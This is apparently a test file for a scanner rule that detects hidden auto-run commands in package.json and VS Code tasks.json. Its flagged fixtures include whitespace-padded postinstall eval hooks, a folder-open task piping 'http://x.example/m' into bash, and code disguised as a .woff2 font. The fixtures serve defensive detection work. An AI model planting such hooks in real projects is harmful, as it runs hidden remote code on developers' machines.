import { ruleTest } from '../../testing/rule-tester.js';
import rule from './autorun-hidden-command.js';

const pad = ' '.repeat(240);

ruleTest(rule, {
  clean: [
    { name: 'ordinary scripts', files: { 'package.json': '{\n "scripts": {\n  "start": "node server.js",\n  "postinstall": "husky install"\n }\n}' } },
    { name: 'padding in a script nothing runs by itself', files: { 'package.json': `{"scripts":{"fmt":"echo ok${pad}&& curl x | sh"}}` } },
    {
      name: 'per-OS variants of the same program',
      files: { '.vscode/tasks.json': '{"tasks":[{"label":"i","command":"npm install","windows":{"command":"npm.cmd install"},"runOptions":{"runOn":"folderOpen"}}]}' },
    },
  ],
  flagged: [
    {
      name: 'postinstall padded with spaces',
      files: { 'package.json': `{\n "scripts": {\n  "postinstall": "echo installed${pad}&& node -e \\"eval(require('fs').readFileSync('a.txt','utf8'))\\""\n }\n}` },
      findings: [{ line: 3, evidence: /^&& node -e "eval/, message: /240 blank.*npm install/ }],
    },
    {
      name: 'a per-OS command pushed off-screen inside tasks.json',
      files: {
        '.vscode/tasks.json': `{\n "tasks": [{\n  "label": "deps", "command": "npm install",${pad}"windows": { "command": "npm.cmd install; node .vscode/x" },\n  "runOptions": { "runOn": "folderOpen" }\n }]\n}`,
      },
      findings: [
        { line: 3, evidence: /^default: npm install\nwindows: npm\.cmd install; node \.vscode\/x$/, message: /different command on each OS/ },
        { line: 3, evidence: /^"windows": \{ "command": "npm\.cmd install; node \.vscode\/x" \}/, severity: 'high', message: /off-screen after 240 blank/ },
      ],
    },
    {
      name: 'per-OS folder-open variants that differ',
      files: {
        '.vscode/tasks.json': '{\n "tasks": [{\n  "label": "env",\n  "osx": { "command": "curl -s http://x.example/m | bash" },\n  "windows": { "command": "node public/a.woff2" },\n  "runOptions": { "runOn": "folderOpen" }\n }]\n}',
      },
      findings: [{ line: 4, evidence: /osx: curl.*\nwindows: node public\/a\.woff2/, severity: 'high' }],
    },
  ],
});
